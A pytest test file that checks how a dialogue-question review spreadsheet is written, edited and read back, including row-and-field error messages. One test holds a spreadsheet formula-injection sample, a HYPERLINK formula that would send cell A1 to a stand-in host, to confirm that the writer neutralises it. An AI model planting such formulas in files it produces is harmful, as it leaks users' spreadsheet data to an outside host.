"""The review file: what a person finds in it, may change, and is told when a change does not fit."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from memory_r1.dialogue_file import read_dialogues, write_dialogues
from memory_r1.drafting.drafts import Draft, Drafted
from memory_r1.drafting.review import COLUMNS, take_back, write_review
from memory_r1.errors import DataError
from memory_r1.types import Question
from tests.drafting.chats import chat

DRAFTED = Drafted(
    "d1",
    2,
    0,
    0,
    (
        Draft("Where does Ann live?", "Rome", "recall", ("s1:1",), ("answered otherwise later", "long answer")),
        Draft("What does Ben own, and where is Ann?", "two dogs", "multi-hop", ("s1:3", "s2:1")),
        Draft("Where does Ann live?", "Oslo", "update", ("s2:1",)),
    ),
)


def reviewed(folder: Path, ending: str) -> Path:
    path = folder / f"review{ending}"
    write_review(path, [chat()], [DRAFTED])
    return path


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def save(path: Path, content: list[dict[str, str]], delimiter: str = ",") -> Path:
    file = io.StringIO()
    writer = csv.DictWriter(file, COLUMNS, delimiter=delimiter)
    writer.writeheader()
    writer.writerows(content)
    path.write_text(file.getvalue(), encoding="utf-8")
    return path


def test_a_row_tells_all_that_a_decision_needs(tmp_path: Path) -> None:
    first, second, _ = rows(reviewed(tmp_path, ".csv"))
    assert tuple(first) == COLUMNS
    assert (first["keep"], first["flags"]) == ("no", "answered otherwise later; long answer")
    assert (second["keep"], second["evidence"]) == ("yes", "s1:3; s2:1")
    assert second["evidence_text"] == "Ben: I own two dogs.\nAnn: I moved to Oslo."


@pytest.mark.parametrize("ending", [".csv", ".jsonl"])
def test_an_untouched_review_keeps_what_passed(tmp_path: Path, ending: str) -> None:
    result = take_back(reviewed(tmp_path, ending), [chat(), chat("d2")])
    assert (result.kept, result.unsaid) == (2, ())
    first, second = result.dialogues
    assert first.questions == (
        Question("q1", "What does Ben own, and where is Ann?", "two dogs", "multi-hop", ("s1:3", "s2:1")),
        Question("q2", "Where does Ann live?", "Oslo", "update", ("s2:1",)),
    )
    assert second == chat("d2")
    write_dialogues(tmp_path / "out.jsonl", result.dialogues)
    assert read_dialogues(tmp_path / "out.jsonl") == [first, second]


def test_a_spreadsheet_computes_nothing_that_was_said(tmp_path: Path) -> None:
    said = ('=HYPERLINK("http://x/?"&A1)', "-5 degrees", "'+1", "'tis")
    drafts = tuple(Draft(text, text, "recall", ("s1:1",)) for text in said)
    path = tmp_path / "review.csv"
    write_review(path, [chat()], [replace(DRAFTED, drafts=drafts)])
    assert [row["answer"] for row in rows(path)] == ["'" + said[0], "'" + said[1], "'" + said[2], said[3]]
    (taken,) = take_back(path, [chat()]).dialogues
    assert tuple(question.answer for question in taken.questions) == said


def test_long_turns_as_evidence_are_read_back(tmp_path: Path) -> None:
    dialogue = chat()
    first, *others = dialogue.sessions
    first = replace(first, turns=tuple(replace(turn, text=turn.text + " and on" * 14_000) for turn in first.turns))
    dialogue = replace(dialogue, sessions=(first, *others))
    draft = Draft("Where does Ann live?", "Rome", "recall", ("s1:1", "s1:2"))
    write_review(tmp_path / "review.csv", [dialogue], [replace(DRAFTED, drafts=(draft,))])
    assert take_back(tmp_path / "review.csv", [dialogue]).kept == 1


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_person_may_edit_add_and_reorder_in_any_spreadsheet(tmp_path: Path, delimiter: str) -> None:
    first, second, third = rows(reviewed(tmp_path, ".csv"))
    first.update(keep="YES ", question="Where did Ann live first?")
    second.update(keep="no")
    third.update(answer="Oslo in May")
    new = {**third, "question": "What is Ben's job?", "answer": "unknown", "category": "unanswerable", "evidence": ""}
    blank = dict.fromkeys(COLUMNS, "")
    path = save(tmp_path / "edited.csv", [third, blank, first, second, new], delimiter)
    result = take_back(path, [chat()])
    assert [(asked.question, asked.answer, asked.evidence) for asked in result.dialogues[0].questions] == [
        ("Where does Ann live?", "Oslo in May", ("s2:1",)),
        ("Where did Ann live first?", "Rome", ("s1:1",)),
        ("What is Ben's job?", "unknown", ()),
    ]
    assert result.unsaid == (2,)  # the row of the spreadsheet: the heading is row 1


def test_questions_that_a_dialogue_has_stay_and_ids_stay_unique(tmp_path: Path) -> None:
    own = replace(chat(), questions=(Question("q2", "Who has dogs?", "Ben", "recall", ("s1:3",)),))
    taken = take_back(reviewed(tmp_path, ".csv"), [own]).dialogues[0].questions
    assert [question.question_id for question in taken] == ["q2", "q3", "q4"]


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"keep": "maybe"}, r'row 3: keep: found "maybe", allowed: yes or no'),
        ({"answer": " "}, r'row 3: answer: found " ", allowed: a string that is not empty'),
        ({"evidence": "s1:3; s9:9"}, r'row 3: evidence\[1\]: found "s9:9", allowed: the turn_id of a turn'),
        ({"evidence": "s1:3; s1:3"}, r"row 3: evidence\[1\]: found .* not in this array yet"),
        ({"dialogue_id": "d7"}, r'row 3: dialogue_id: found "d7", allowed'),
        ({"question": "Where does Ann live"}, r"row 4: question: found .* a question that row 3 does not ask"),
    ],
)
def test_a_mistake_is_told_with_its_row_and_field(tmp_path: Path, changes: dict[str, str], message: str) -> None:
    content = rows(reviewed(tmp_path, ".csv"))
    content[1].update(changes)
    with pytest.raises(DataError, match=message):
        take_back(save(tmp_path / "edited.csv", content), [chat()])


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"keep,question\n", "row 1: found no column dialogue_id, answer, category, evidence"),
        (b"", "row 1: found no column keep"),
        (b"keep,dialogue_id,question,answer,category,evidence\nyes,d1\n", "row 2: found 2 cells, allowed: 6"),
        (b"\xff\xfe", "not UTF-8"),
    ],
)
def test_a_broken_file_is_told(tmp_path: Path, content: bytes, message: str) -> None:
    (tmp_path / "broken.csv").write_bytes(content)
    with pytest.raises(DataError, match=message):
        take_back(tmp_path / "broken.csv", [chat()])


def test_a_broken_line_is_told(tmp_path: Path) -> None:
    path = reviewed(tmp_path, ".jsonl")
    lines = path.read_text().splitlines()
    path.write_text("\n".join([lines[0], "[1]"]))
    with pytest.raises(DataError, match="row 2: found an array of 1, allowed: an object"):
        take_back(path, [chat()])
    row = json.loads(lines[1])
    path.write_text(json.dumps({**row, "evidence": "s1:3"}))
    with pytest.raises(DataError, match='row 1: evidence: found "s1:3", allowed: an array'):
        take_back(path, [chat()])
